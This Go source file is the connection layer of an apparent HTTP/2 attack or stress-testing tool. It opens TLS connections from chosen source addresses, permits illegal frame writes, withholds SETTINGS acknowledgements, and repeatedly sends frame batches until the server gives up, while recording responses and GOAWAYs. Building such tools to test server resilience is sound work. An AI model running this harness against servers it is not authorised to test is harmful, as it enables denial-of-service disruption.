package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strconv"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Conn is one attacking HTTP/2 connection: a Framer writing through a buffer, an
// HPACK encoder, and a goroutine reading what the server sends (responses, GOAWAY,
// the close).
type h2Conn struct {
	c     *tls.Conn
	bw    *bufio.Writer
	fr    *http2.Framer
	enc   *hpack.Encoder
	hbuf  bytes.Buffer
	next  uint32        // the next client stream ID
	gone  chan struct{} // closed when the server has closed the connection
	start time.Time     // when the abuse began
	rec   *recorder
	bad   atomic.Bool // the server ended the connection (GOAWAY or read error)
}

// dialTLS connects from src to t.Addr and completes a TLS handshake offering proto.
// The connection's deadline is the end of ctx, so no write can outlive the attack.
func dialTLS(ctx context.Context, t *Target, src netip.Addr, proto string, rcvBuf int) (*tls.Conn, error) {
	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(src, 0)), Timeout: 2 * time.Second}
	if rcvBuf > 0 {
		d.ControlContext = setRcvBuf(rcvBuf)
	}
	raw, err := d.DialContext(ctx, "tcp", t.Addr.String())
	if err != nil {
		return nil, err
	}
	tc := t.TLS.Clone()
	tc.NextProtos = []string{proto}
	c := tls.Client(raw, tc)
	if dl, ok := ctx.Deadline(); ok {
		c.SetDeadline(dl)
	}
	hctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	if err := c.HandshakeContext(hctx); err != nil {
		raw.Close()
		return nil, err
	}
	// A server without ALPN speaks HTTP/1.1.
	if got := c.ConnectionState().NegotiatedProtocol; got != proto && (got != "" || proto != "http/1.1") {
		c.Close()
		return nil, fmt.Errorf("attack: ALPN %q, want %q", got, proto)
	}
	return c, nil
}

// dialH2 opens an HTTP/2 connection: preface and an empty SETTINGS frame.
func dialH2(ctx context.Context, t *Target, src netip.Addr, rec *recorder) (*h2Conn, error) {
	c, err := dialTLS(ctx, t, src, "h2", 0)
	if err != nil {
		return nil, err
	}
	h := &h2Conn{c: c, bw: bufio.NewWriterSize(c, 64<<10), next: 1, gone: make(chan struct{}), rec: rec}
	h.fr = http2.NewFramer(h.bw, c)
	h.fr.AllowIllegalWrites = true // the point of the exercise
	h.enc = hpack.NewEncoder(&h.hbuf)
	if _, err := io.WriteString(h.bw, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.bw.Flush(); err != nil {
		c.Close()
		return nil, err
	}
	h.start = time.Now()
	go h.read()
	return h, nil
}

// read counts what the server sends until the connection ends.
func (h *h2Conn) read() {
	defer close(h.gone)
	fr := http2.NewFramer(io.Discard, h.c)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.MaxHeaderListSize = 1 << 20
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			h.bad.Store(true)
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			if st, err := strconv.Atoi(f.PseudoValue("status")); err == nil {
				h.rec.response(st)
			}
		case *http2.GoAwayFrame:
			h.rec.goAway(f.ErrCode.String())
			h.bad.Store(true)
		case *http2.SettingsFrame:
			if !f.IsAck() {
				fr.WriteSettingsAck() // written to io.Discard: the attacker does not ack
			}
		}
	}
}

// stream returns a new client stream ID.
func (h *h2Conn) stream() uint32 {
	id := h.next
	h.next += 2
	return id
}

// block encodes a request's header block: GET path, plus extra fields.
func (h *h2Conn) block(method, path string, extra ...hpack.HeaderField) []byte {
	h.hbuf.Reset()
	h.enc.WriteField(hpack.HeaderField{Name: ":method", Value: method})
	h.enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "https"})
	h.enc.WriteField(hpack.HeaderField{Name: ":authority", Value: "attack.test"})
	h.enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
	for _, f := range extra {
		h.enc.WriteField(f)
	}
	return h.hbuf.Bytes()
}

// flush writes the buffered frames and reports whether the connection is still up.
func (h *h2Conn) flush() bool {
	if err := h.bw.Flush(); err != nil {
		return false
	}
	return !h.bad.Load()
}

// finish closes the connection and records how it ended.
func (h *h2Conn) finish(ctx context.Context) {
	life := time.Since(h.start)
	h.c.Close()
	<-h.gone
	h.rec.ended(ctx, life)
}

// runH2 dials an HTTP/2 connection and calls round until it reports false, the
// server ends the connection, or ctx ends. round writes a batch of frames and
// returns how many; runH2 flushes after each.
func runH2(ctx context.Context, t *Target, src netip.Addr, rec *recorder, round func(h *h2Conn) (int, error)) error {
	h, err := dialH2(ctx, t, src, rec)
	if err != nil {
		return err
	}
	done := rec.opened()
	defer done()
	defer h.finish(ctx)
	for ctx.Err() == nil {
		n, err := round(h)
		rec.sent.Add(int64(n))
		if err != nil || !h.flush() {
			return nil
		}
		if h.next > 1<<30 {
			return nil // stream IDs running out: a new connection
		}
	}
	return nil
}
